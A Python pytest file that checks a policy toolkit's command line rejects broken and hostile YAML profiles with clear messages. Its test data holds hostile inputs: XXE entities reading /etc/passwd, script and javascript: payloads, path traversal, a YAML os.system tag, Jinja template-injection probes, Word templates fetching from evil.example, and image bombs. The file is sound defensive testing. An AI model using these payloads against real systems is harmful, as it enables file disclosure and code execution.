"""A catalogue of broken and hostile profiles, run through the real command line.

Each case must: exit 2 (1 for an unwritable output folder), print a message naming the file and the line and field
where the input has them, print no traceback, and leave the previous outputs in the folder exactly as they were.
"""

from __future__ import annotations

import io
import textwrap
import zipfile
from dataclasses import dataclass, field

import pytest

from toolkit.output import LOCK_NAME
from toolkit.paths import CORE_DIR
from toolkit.render.ooxml import DEFAULT_TEMPLATE

from .conftest import PROFILES, ROOT, SECTORS

GOOD = """\
extends: local-council
name: Testshire Council
"""
PREVIOUS = b"<!DOCTYPE html><title>the previous, good build</title>"


@dataclass
class Case:
    id: str
    profile: str | bytes
    expect: list[str]  # fragments the message must contain
    line: int | None = None  # the line the message must name
    files: dict[str, str | bytes] = field(default_factory=dict)  # extra files beside the profile
    code: int = 2


def case(id: str, profile: str | bytes, *expect: str, line: int | None = None, **files: str | bytes) -> Case:
    return Case(id, profile, list(expect), line, {name.replace("__", "."): data for name, data in files.items()})


SVG_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><title>&xxe;</title></svg>"""
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_REMOTE = '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>'
PNG = (ROOT / "profiles" / "assets" / "riverside-borough-council-logo.png").read_bytes()


def outputs(folder) -> list[str]:
    """The files in an output folder, staged (.partial) files included, without the lock and the build cache."""
    from toolkit.render.cache import CACHE_FOLDER

    return sorted(p.name for p in folder.iterdir() if p.name not in (LOCK_NAME, CACHE_FOLDER))


def blank_docx() -> bytes:
    from docx import Document

    out = io.BytesIO()
    document = Document()
    document.add_paragraph("Our house style, without the placeholders")
    document.save(out)
    return out.getvalue()


def house_docx(text: str | None = None, parts: dict[str, bytes] | None = None) -> bytes:
    """The default Word template, with a paragraph of `text` added and zip entries (`word/x.bin`) added or replaced."""
    import zipfile

    from docx import Document

    from toolkit.render.ooxml import DEFAULT_TEMPLATE

    source = io.BytesIO()
    document = Document(str(DEFAULT_TEMPLATE))
    if text:
        document.add_paragraph(text)
    document.save(source)
    replaced = dict(parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, replaced.pop(name, None) or old.read(name))
        for name, data in replaced.items():
            new.writestr(name, data)
    return out.getvalue()


RELS = "word/_rels/document.xml.rels"


def with_relationship(kind: str, target: str) -> bytes:
    """The default template's document relationships plus one to an outside address."""
    import zipfile

    from toolkit.render.ooxml import DEFAULT_TEMPLATE

    rels = zipfile.ZipFile(DEFAULT_TEMPLATE).read("word/_rels/document.xml.rels").decode()
    extra = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/>'
    )
    return rels.replace("</Relationships>", extra + "</Relationships>").encode()


def png_header(width: int, height: int, padding: int = 0) -> bytes:
    """A PNG's signature and image header claiming a size (and optional filler bytes): what a size check reads."""
    import struct
    import zlib

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(header)) + b"IHDR" + header + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    return PNG[:8] + chunk + b"\0" * padding


def table(columns: int) -> str:
    cells = "|" + "|".join(f"c{i}" for i in range(columns)) + "|"
    return cells + "\\n|" + "|".join("-" * columns) + "|\\n" + cells


def house(id: str, docx: bytes, *expect: str) -> Case:
    return case(id, GOOD + "branding:\n  word_template: house.docx\n", *expect, house__docx=docx)


def logo(png: str = "logo.png", extra: str = "") -> str:
    return GOOD + f"branding:\n  logo:\n    png: {png}\n    alt: Testshire Council\n{extra}"


def deep_chain() -> dict[str, str]:
    files = {f"test-level-{i}.yaml": f"extends: test-level-{i + 1}\n" for i in range(1, 18)}
    files["test-level-18.yaml"] = GOOD
    return files


CASES = [
    # The YAML itself
    case(
        "bad-indentation",
        GOOD + "contacts:\n  press:\n    name: A\n   email: x\n",
        "not indented like the lines around it",
        line=6,
    ),
    case("unclosed-quote", GOOD + 'short_name: "Testshire\n', "not valid YAML"),
    case("tab-indentation", GOOD + "contacts:\n\tpress: {name: A}\n", "a tab character", line=4),
    case("duplicate-key", GOOD + "name: Other Council\n", "`name` appears twice (first defined on line 2)", line=3),
    case("duplicate-nested-key", GOOD + "document:\n  owner: A\n  owner: B\n", "first defined on line 4", line=5),
    case("mapping-as-a-key", GOOD + "? short_name: {}\n", "a field's name here is a list or a group of fields", line=3),
    case("list-as-a-key", GOOD + "? [a, b]\n: x\n", "a field's name here is a list or a group of fields", line=3),
    case("number-as-a-key", GOOD + "2026: x\n", "a field's name must be text, not `2026`", line=3),
    case("empty-file", "", "the file is empty"),
    case("only-comments", "# nothing here\n", "no fields, only comments"),
    case("latin-1", GOOD.encode() + "short_name: Caf\xe9\n".encode("latin-1"), "not UTF-8", line=3),
    case("utf-16", GOOD.encode("utf-16"), "not UTF-8"),
    case("top-level-list", "- name: A\n", "must be a mapping"),
    case("top-level-scalar", "just some words\n", "must be a mapping"),
    case("anchor-and-alias", GOOD + "short_name: &n T\ndescription: *n\n", "anchors", line=3),
    case("python-tag", GOOD + "description: !!python/object:os.system ls\n", "tags", line=3),
    case("billion-laughs", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "not allowed", line=1),
    case("huge-file", GOOD + "description: " + "x" * (1024 * 1024) + "\n", "the limit is 1,048,576"),
    case("deep-nesting", GOOD + "description: " + "[" * 30 + "]" * 30 + "\n", "nested more than", line=3),
    case("control-character", GOOD + 'short_name: "Test\\x07shire"\n', "control character", "short_name", line=3),
    case(
        "nul-in-clause-text",
        GOOD + 'clauses:\n  - replace: principles.credible\n    text: "a\\0b"\n',
        "U+0000",
        "clauses #1 (replace: principles.credible), text",
        line=5,
    ),
    # Fields
    case("unknown-field", GOOD + "nmae: X\n", "nmae: unknown field", "did you mean `name`?", line=3),
    case(
        "misspelt-contact-detail",
        GOOD + "contacts:\n  press:\n    name: Press office\n    emial: press@testshire.example\n",
        "contacts.press.emial: unknown field",
        "did you mean `email`?",
        line=6,
    ),
    case(
        "unknown-nested-field",
        GOOD + "branding:\n  primary_color: '#123456'\n",
        "branding.primary_color",
        "did you mean `primary_colour`?",
        line=4,
    ),
    case("wrong-type", GOOD + "short_name: [a, b]\n", "short_name", "expected text here", line=3),
    case("channels-not-a-list", GOOD + "channels: {name: x}\n", "channels", "expected a list here", line=3),
    case("bad-colour", GOOD + "branding:\n  primary_colour: blue\n", "#rrggbb", line=4),
    case("bad-sector", "name: X\nsector: council\n", "sector", "`council` is not allowed", line=2),
    case("bad-nation", GOOD + "nation: cornwall\n", "nation", line=3),
    case("impossible-date", GOOD + "document:\n  approved_on: 2026-13-01\n", "document.approved_on", line=4),
    case("version-as-number", GOOD + "document:\n  version: 2.10\n", "in quotes", line=4),
    case("bad-email", GOOD + "contacts:\n  press: {name: A, email: not-an-email}\n", "not an email address", line=4),
    case("http-url", GOOD + "contacts:\n  press: {name: A, url: 'http://a.example'}\n", "https://", line=4),
    case(
        "javascript-channel",
        GOOD + "channels:\n  - {name: A, platform: B, url: 'javascript:alert(1)'}\n",
        "channels #1, url",
        "https://",
        line=4,
    ),
    case(
        "unknown-contact-role",
        GOOD + "contacts:\n  press_office: {name: A}\n",
        "contacts.press_office",
        "did you mean `press`?",
        line=4,
    ),
    case("unknown-term", GOOD + "terminology:\n  staf: officer\n", "terminology.staf", "did you mean `staff`?", line=4),
    case("term-without-plural", GOOD + "terminology:\n  staff: officer\n", "give `plural:`", line=4),
    case("missing-required-contact", GOOD + "contacts:\n  press: null\n", "contacts.press", "is required"),
    case("missing-name", "extends: local-council\nname: ''\n", "name: must not be empty", line=2),
    case(
        "review-before-approval",
        GOOD + "document:\n  approved_on: 2026-05-01\n  review_by: 2026-04-01\n  approved_by: Board\n",
        "must come after approval",
        line=5,
    ),
    case("nothing-inherited", "name: Lonely Council\n", "sector: is required", "code_of_conduct.name: is required"),
    # Inheritance
    case("missing-parent", "extends: local-counci\nname: X\n", "did you mean `local-council`?", line=1),
    case("self-extends", "extends: test-org\nname: X\n", "in a circle", line=1),
    case(
        "cycle",
        "extends: test-other\nname: X\n",
        "in a circle: test-org → test-other → test-org",
        test_other__yaml="extends: test-org\nname: Y\n",
    ),
    case(
        "too-deep",
        "extends: test-level-1\nname: X\n",
        "more than 16 profiles deep",
        **{name.replace(".", "__").replace("-", "_"): text for name, text in deep_chain().items()},
    ),
    # Clause operations
    case(
        "unknown-clause",
        GOOD + "clauses:\n  - replace: principles.credable\n    text: x\n",
        "clauses #1 (replace: principles.credable), replace",
        "unknown clause",
        "did you mean `principles.credible`?",
        line=4,
    ),
    case(
        "remove-without-reason",
        GOOD + "clauses:\n  - remove: principles.credible\n",
        "clauses #1 (remove: principles.credible), reason",
        "is required",
        line=4,
    ),
    case(
        "empty-reason",
        GOOD + "clauses:\n  - remove: principles.credible\n    reason: ''\n",
        "clauses #1 (remove: principles.credible), reason",
        line=5,
    ),
    case(
        "two-operations",
        GOOD + "clauses:\n  - replace: principles.credible\n    text: a\n"
        "  - remove: principles.credible\n    reason: b\n",
        "a second operation on `principles.credible`",
        line=6,
    ),
    case("no-verb", GOOD + "clauses:\n  - text: x\n", "exactly one of: replace, remove", line=4),
    case(
        "two-verbs",
        GOOD + "clauses:\n  - replace: principles.credible\n    remove: principles.credible\n",
        "exactly one of",
        line=4,
    ),
    case(
        "add-existing-id",
        GOOD + "clauses:\n  - add: principles.credible\n    section: principles\n    text: x\n",
        "already exists",
        line=4,
    ),
    case(
        "add-without-place",
        GOOD + "clauses:\n  - add: principles.test-new\n    text: x\n",
        "exactly one of `before:`, `after:` or `section:`",
        line=4,
    ),
    case(
        "bad-clause-id",
        GOOD + "clauses:\n  - replace: Principles.Credible\n    text: x\n",
        "lower-case words joined by dots",
        line=4,
    ),
    case(
        "include-present", GOOD + "clauses:\n  - include: principles.credible\n", "already part of this policy", line=4
    ),
    case(
        "move-next-to-itself",
        GOOD + "clauses:\n  - move: principles.credible\n    after: principles.credible\n",
        "next to itself",
        line=5,
    ),
    case(
        "unknown-placeholder",
        GOOD + "clauses:\n  - replace: principles.credible\n    text: 'Ask {org.nam}'\n",
        "{org.nam}",
        "did you mean `{org.name}`?",
        line=5,
    ),
    case(
        "javascript-link",
        GOOD + "clauses:\n  - replace: principles.credible\n    text: '[x](javascript:alert(1))'\n",
        "links must start with https://",
        line=5,
    ),
    case(
        "image-in-text",
        GOOD + "clauses:\n  - replace: principles.credible\n    text: '![x](logo.png)'\n",
        "images are not supported",
        line=5,
    ),
    case(
        "heading-in-text",
        GOOD + "clauses:\n  - replace: principles.credible\n    text: '## Big'\n",
        "heading level 2",
        line=5,
    ),
    # Files the profile names
    case("missing-logo", logo(), "branding.logo.png", "does not exist", line=5),
    case("logo-outside-project", logo("../../../../etc/passwd"), "outside the project", line=5),
    case("logo-absolute-elsewhere", logo("/etc/hosts"), "outside the project", line=5),
    case("logo-url", logo("https://evil.example/logo.png"), "is a URL", line=5),
    case("logo-file-url", logo("file:///etc/passwd"), "is a URL", line=5),
    case("logo-not-png", logo(), "not a PNG", logo__png=b"GIF89a not a png"),
    case(
        "svg-external-entity",
        logo(extra="    svg: logo.svg\n"),
        "DOCTYPE or entities",
        logo__png=PNG,
        logo__svg=SVG_ENTITY,
    ),
    case("svg-script", logo(extra="    svg: logo.svg\n"), "<script>", logo__png=PNG, logo__svg=SVG_SCRIPT),
    case(
        "svg-remote-image",
        logo(extra="    svg: logo.svg\n"),
        "refers to another file",
        logo__png=PNG,
        logo__svg=SVG_REMOTE,
    ),
    case("logo-without-alt", GOOD + "branding:\n  logo:\n    png: logo.png\n", "needs `alt:`", logo__png=PNG),
    case("low-contrast", GOOD + "branding:\n  primary_colour: '#ffff00'\n", "#ffff00 on #ffffff", "1.07:1", line=4),
    case(
        "missing-word-template",
        GOOD + "branding:\n  word_template: house.docx\n",
        "branding.word_template",
        "does not exist",
        line=4,
    ),
    case(
        "word-template-wrong-type",
        GOOD + "branding:\n  word_template: house.txt\n",
        "should be a .docx",
        house__txt="x",
    ),
    case(
        "word-template-without-placeholders",
        GOOD + "branding:\n  word_template: house.docx\n",
        "house.docx",
        "Word template lacks",
        house__docx=blank_docx(),
    ),
    case("unknown-font", GOOD + "branding:\n  font: Comic Sans\n", "not bundled", line=4),
    # Hostile input, second round: nothing read from outside, nothing internal leaked, nothing dangerous written
    case("extends-a-path", "extends: ../../outside/secret\nname: X\n", "never a path", line=1),
    case("extends-an-absolute-path", "extends: /etc/secret\nname: X\n", "never a path", line=1),
    case("extends-dot-dot", "extends: ..\nname: X\n", "never a path", line=1),
    case("extends-windows-path", "extends: '..\\\\outside\\\\secret'\nname: X\n", "never a path", line=1),
    *[
        case(
            f"placeholder-{name.strip('{}').replace('.', '-').replace('_', '')}",
            GOOD + f"clauses:\n  - replace: principles.credible\n    text: 'Ask {name}'\n",
            f"`{name}` is not a known placeholder",
            suggestion,
            line=5,
        )
        for name, suggestion in (
            ("{org.name.__class__}", "did you mean `{org.name}`?"),
            ("{org.name._vocabulary}", "did you mean `{org.name}`?"),
            ("{org.__init__.__globals__}", "see the README's list of placeholders"),
            ("{term.staff.__dict__}", "did you mean `{term.staff"),
        )
    ],
    house(
        "word-template-attached-from-the-web",
        house_docx(parts={RELS: with_relationship("attachedTemplate", "http://evil.example/t.dotm")}),
        "makes Word fetch attachedTemplate from http://evil.example/t.dotm",
    ),
    house(
        "word-template-remote-image",
        house_docx(parts={RELS: with_relationship("image", "https://evil.example/track.png")}),
        "makes Word fetch image",
    ),
    house(
        "word-template-ole-link",
        house_docx(parts={RELS: with_relationship("oleObject", "file://server/share/x.xlsx")}),
        "makes Word fetch oleObject",
    ),
    house(
        "word-template-remote-image-in-the-header",
        house_docx(
            parts={
                "word/_rels/header1.xml.rels": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'image" Target="https://evil.example/pixel.png" TargetMode="External"/></Relationships>'
            }
        ),
        "word/_rels/header1.xml.rels makes Word fetch image from https://evil.example/pixel.png",
    ),
    house("word-template-macros", house_docx(parts={"word/vbaProject.bin": b"macro"}), "contains macros"),
    house(
        "word-template-docm-renamed",
        house_docx(
            parts={
                "[Content_Types].xml": zipfile.ZipFile(DEFAULT_TEMPLATE)
                .read("[Content_Types].xml")
                .replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            }
        ),
        "macro-enabled document (.docm)",
    ),
    house(
        "word-template-too-many-parts",
        house_docx(parts={f"word/media/p{i}.bin": b"x" for i in range(1001)}),
        "parts; the limit is 1,000",
    ),
    house(
        "word-template-includes-a-file",
        house_docx("{% include '/etc/passwd' %}"),
        "may not include, import or extend another file (`/etc/passwd`)",
    ),
    house("word-template-huge-loop", house_docx("{% for i in range(10**9) %}x{% endfor %}"), "range()", "1,000"),
    house("word-template-huge-power", house_docx("{{ 9**99999999 }}"), "at most the power 30"),
    case(
        "font-name-injects-xml",
        GOOD + "branding:\n  font: 'Inj\" w:altName=\"pwned'\n",
        "branding.font.name",
        "letters, digits, spaces",
        line=4,
    ),
    case("font-name-ampersand", GOOD + "branding:\n  font: Brand & Co\n", "letters, digits, spaces", line=4),
    case("font-name-pdf-syntax", GOOD + "branding:\n  font: 'A}<;/B'\n", "letters, digits, spaces", line=4),
    case(
        "logo-only-the-signature",
        logo(),
        "branding.logo.png",
        "not a complete PNG image",
        line=5,
        logo__png=PNG[:8],
    ),
    case(
        "logo-image-bomb", logo(), "30000×30000 pixels", "at most 4000×4000", line=5, logo__png=png_header(30000, 30000)
    ),
    case(
        "svg-too-large",
        logo(extra="    svg: logo.svg\n"),
        "a logo may be at most 5,242,880",
        logo__png=PNG,
        logo__svg=SVG_SCRIPT.replace("<script>", " " * (5 * 1024 * 1024) + "<script>"),
    ),
    case("logo-very-tall", logo(), "100×50000 pixels", line=5, logo__png=png_header(100, 50000)),
    case("logo-zero-pixels", logo(), "0×10 pixels", line=5, logo__png=png_header(0, 10)),
    case(
        "logo-too-large-a-file",
        logo(),
        "a logo may be at most 5,242,880",
        line=5,
        logo__png=png_header(100, 100, padding=5 * 1024 * 1024),
    ),
    case("name-too-long", "extends: local-council\nname: " + "N" * 256 + "\n", "name", "the limit is 255", line=2),
    case("short-name-too-long", GOOD + "short_name: " + "S" * 300 + "\n", "short_name", "the limit is 255", line=3),
    case(
        "version-too-long",
        GOOD + "document:\n  version: '" + "1" * 256 + "'\n",
        "document.version",
        "the limit is 255",
        line=4,
    ),
    case(
        "table-with-101-columns",
        GOOD + f'clauses:\n  - replace: principles.credible\n    text: "{table(101)}"\n',
        "a table has 101 columns; at most 20",
        line=5,
    ),
    case(
        "contact-role-dedented-out-of-contacts",
        GOOD + "contacts:\n  press: {name: the press office, email: p@x.example}\nsocial_media: {name: the web team}\n",
        "social_media: unknown field",
        "indent it under `contacts:`",
        line=5,
    ),
    case(
        "contact-role-indented-into-another",
        GOOD + "contacts:\n  press:\n    name: the press office\n    social_media: {name: the web team}\n",
        "line it up with `press:`",
        line=6,
    ),
    case("document-field-at-the-top", GOOD + "owner: Head of Communications\n", "indent it under `document:`", line=3),
    case("branding-field-at-the-top", GOOD + "primary_colour: '#1d70b8'\n", "indent it under `branding:`", line=3),
    case("term-at-the-top", GOOD + "leadership: members\n", "indent it under `terminology:`", line=3),
    case(
        "operation-at-the-top",
        GOOD + "replace: principles.credible\n",
        "write it as an item under `clauses:`",
        line=3,
    ),
    case(
        "text-not-indented-under-its-block",
        GOOD + "clauses:\n  - replace: principles.credible\n    text: |\n    Online, this means:\n",
        "text: must not be empty",
        "indent them further than `text:`",
        "Online, this means: unknown field",
        "the text under `text: |` must be indented further than `text:`",
        line=6,
    ),
    case(
        "remove-a-section",
        GOOD + "clauses:\n  - remove: confidentiality\n    reason: not for us\n",
        "`confidentiality` is a section",
        "exclude: confidentiality",
        line=4,
    ),
]


@pytest.mark.parametrize("bad", CASES, ids=[c.id for c in CASES])
def test_bad_profile_gets_a_clear_message_and_nothing_is_lost(bad: Case, tmp_path, monkeypatch, cli):
    folder = tmp_path / "profiles"
    folder.mkdir()
    path = folder / "test-org.yaml"
    path.write_bytes(bad.profile if isinstance(bad.profile, bytes) else bad.profile.encode())
    for name, data in bad.files.items():
        (
            folder
            / name.replace("_", "-")
            .replace("-yaml", ".yaml")
            .replace("-png", ".png")
            .replace("-svg", ".svg")
            .replace("-txt", ".txt")
        ).write_bytes(data if isinstance(data, bytes) else data.encode())
    out_dir = tmp_path / "output"
    out_dir.mkdir()
    previous = out_dir / "test-org.html"
    previous.write_bytes(PREVIOUS)
    before = sorted(p.name for p in out_dir.iterdir())

    formats = "docx" if "word-template" in bad.id else "html"  # a house template is only read for Word
    code, _, err = cli(*["build", str(path), "--format", formats, "--out", str(out_dir), "--profiles", str(PROFILES)])

    assert code == bad.code, err
    assert "Traceback" not in err
    assert "test-org.yaml" in err or "house.docx" in err, err
    for fragment in bad.expect:
        assert fragment in err, f"{fragment!r} not in:\n{err}"
    if bad.line is not None:
        assert f".yaml:{bad.line}:" in err or f".yaml:{bad.line} " in err, err
    assert previous.read_bytes() == PREVIOUS
    assert sorted(p.name for p in out_dir.iterdir()) == before


def test_the_catalogue_is_large_enough():
    assert len(CASES) >= 100


def test_a_typo_in_a_core_template_names_the_template_and_line(tmp_path, monkeypatch, cli):
    import shutil

    core = tmp_path / "core"
    shutil.copytree(CORE_DIR, core)
    section = next((core / "sections").glob("02-*.md.j2"))
    lines = section.read_text(encoding="utf-8").splitlines()
    number = next(i for i, line in enumerate(lines) if "{{ term.staff.plural }}" in line)
    lines[number] = lines[number].replace("{{ term.staff.plural }}", "{{ term.staf.plural }}")
    section.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, _, err = cli(
        *[
            "--core",
            str(core),
            "build",
            str(SECTORS / "local-council.yaml"),
            "--format",
            "html",
            "--out",
            str(tmp_path / "out"),
        ],
    )
    assert code == 2
    assert f"{section.name}:{number + 1}:" in err and "term.staf" in err and "did you mean `term.staff`?" in err
    assert not (tmp_path / "out" / "local-council.html").exists()


def test_validate_lists_every_problem_with_a_house_template(tmp_path, monkeypatch, cli):
    (tmp_path / "house.docx").write_bytes(blank_docx())
    path = tmp_path / "test-org.yaml"
    path.write_text(GOOD + "branding:\n  word_template: house.docx\n", encoding="utf-8")
    code, _, err = cli(*["validate", str(path), "--profiles", str(PROFILES)])
    assert code == 2
    assert "{{ body }} is missing" in err and "“Hyperlink” is missing" in err and "branding.word_template" in err


def test_debug_shows_the_traceback(tmp_path, monkeypatch, cli):
    path = tmp_path / "test-org.yaml"
    path.write_text("extends: nowhere\nname: X\n", encoding="utf-8")
    code, _, err = cli(*["--debug", "validate", str(path), "--profiles", str(PROFILES)])
    assert code == 2 and "Traceback" not in err  # validate reports per profile: no exception escapes
    code, _, err = cli(*["--debug", "build", str(path), "--profiles", str(PROFILES)])
    assert code == 2 and "Traceback" in err


def test_an_output_path_that_is_a_file_is_a_clear_error(tmp_path, monkeypatch, cli):
    blocker = tmp_path / "output"
    blocker.write_text("not a folder")
    code, _, err = cli(*["build", str(SECTORS / "nhs-trust.yaml"), "--format", "html", "--out", str(blocker)])
    assert code == 1 and "is a file, not a folder" in err and "Traceback" not in err


def test_a_full_disk_leaves_previous_outputs_and_no_partial_files(tmp_path, monkeypatch, cli):
    import errno
    import os

    out_dir = tmp_path / "output"
    out_dir.mkdir()
    previous = out_dir / "nhs-trust.html"
    previous.write_bytes(PREVIOUS)
    real_fsync = os.fsync

    def full(descriptor: int) -> None:
        real_fsync(descriptor)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    code, _, err = cli(*["build", str(SECTORS / "nhs-trust.yaml"), "--format", "html", "--out", str(out_dir)])
    assert code == 1 and "the disk is full" in err
    assert previous.read_bytes() == PREVIOUS
    assert outputs(out_dir) == ["nhs-trust.html"]


def test_a_renderer_failing_midway_publishes_nothing(tmp_path, monkeypatch, cli):
    from toolkit import render

    out_dir = tmp_path / "output"
    out_dir.mkdir()
    previous = out_dir / "nhs-trust.html"
    previous.write_bytes(PREVIOUS)
    real = render.render

    def broken(policy, name, options=None):
        if name == "pdf":
            raise RuntimeError("simulated crash while rendering the PDF")
        return real(policy, name, options)

    monkeypatch.setattr(render, "render", broken)
    code, _, err = cli(
        *["build", str(SECTORS / "nhs-trust.yaml"), "--format", "html,pdf", "--out", str(out_dir)],
    )
    assert code == 1 and "simulated crash" in err and "Traceback" not in err
    assert previous.read_bytes() == PREVIOUS
    assert outputs(out_dir) == ["nhs-trust.html"]


def test_profile_text_is_never_evaluated(tmp_path, monkeypatch, cli):
    profile = tmp_path / "test-org.yaml"
    profile.write_text(
        textwrap.dedent("""\
        extends: local-council
        name: "{{ 7*7 }} <script>alert(1)</script> & Co"
        clauses:
          - replace: principles.credible
            text: "{% for x in range(3) %}{{ x }}{% endfor %} {{ cycler.__init__.__globals__ }}"
    """),
        encoding="utf-8",
    )
    code, _, err = cli(
        *["build", str(profile), "--format", "html", "--out", str(tmp_path / "out"), "--profiles", str(PROFILES)],
    )
    assert code == 0, err
    page = (tmp_path / "out" / "test-org.html").read_text(encoding="utf-8")
    assert "{{ 7*7 }} &lt;script&gt;alert(1)&lt;/script&gt; &amp; Co" in page
    assert "{% for x in range(3) %}{{ x }}{% endfor %}" in page and "<script>alert" not in page
    assert "49" not in page.split("<body", 1)[1].split("Using social media", 1)[0]


def test_every_bad_placeholder_in_a_clause_is_reported_with_its_line(tmp_path, cli):
    path = tmp_path / "test-org.yaml"
    path.write_text(
        GOOD + "clauses:\n  - replace: principles.credible\n    text: |\n      Ask {term.staf}.\n\n"
        "      Then {org.nmae}.\n    reason: Ours.\n",
        encoding="utf-8",
    )
    code, _, err = cli("validate", path, "--profiles", PROFILES)
    assert code == 2
    assert "{term.staf}" in err and "{org.nmae}" in err
    assert "test-org.yaml:6:" in err and "test-org.yaml:8:" in err
